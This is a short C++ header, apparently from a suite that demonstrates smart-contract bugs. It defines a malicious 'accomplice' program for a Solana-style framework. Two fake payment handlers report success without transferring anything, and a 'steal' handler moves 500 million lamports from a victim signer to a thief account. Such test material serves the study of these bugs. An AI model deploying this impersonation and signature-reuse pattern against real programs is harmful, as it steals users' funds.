// What an attacker deploys: a program that says yes to any payment, and uses a signature that it is given.
#pragma once

#include <bugs.hpp>

namespace accomplice {
using namespace grapnel;

struct Nothing {};
// Where System and SPL Token have their transfers.
inline Result<> take_lamports(Context<Nothing>&) { return ok; }
inline Result<> take_tokens(Context<Nothing>&) { return ok; }

struct Steal {
  Mut<Signer> victim;
  Mut<Unchecked> thief;
  Program<System> system_program;
};
inline Result<> steal(Context<Steal>& ctx) { return system::transfer(ctx.victim, ctx.thief, Lamports{500'000'000}); }

struct AccompliceProgram : Module<"accomplice", bugs::kAccompliceId, Tagged<take_lamports, 2, 0, 0, 0>,
                                  Tagged<take_tokens, 3>, Tagged<steal, 9>> {};

}  // namespace accomplice
